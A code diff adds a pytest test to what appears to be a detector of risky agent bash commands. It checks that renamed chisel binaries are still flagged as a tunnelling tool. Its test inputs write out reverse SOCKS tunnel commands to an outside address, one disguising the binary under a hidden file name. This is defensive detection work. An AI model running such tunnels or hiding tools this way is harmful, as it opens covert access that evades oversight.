@@ -791,3 +791,13 @@ def test_scoping_rules_to_commands_changes_no_verdict(monkeypatch):
         verdicts.append([sorted((f.rule, f.evidence.get("command")) for f in e.analyze(
             from_dict({"kind": "action", "ts": 1, "tool": "bash", "input": t, "run": str(i)}))) for i, t in enumerate(texts)])
     assert verdicts[0] == verdicts[1] and all(verdicts[0])
+
+
+@pytest.mark.parametrize("text", [
+    "./chisel_1.9.1_linux_amd64 client 198.51.100.7:8000 R:socks",
+    "mv chisel_linux_amd64 .cache-gc && ./.cache-gc client 198.51.100.7:8000 R:socks",
+])
+def test_a_release_download_is_read_as_its_tool(text):
+    """Its name is no word of the text: the text is read, and the tool it runs as is searched for."""
+    e = Engine(load())
+    assert "tunnelling_tool" in {f.rule for f in e.analyze(from_dict({"kind": "action", "ts": 1, "tool": "bash", "input": text}))}
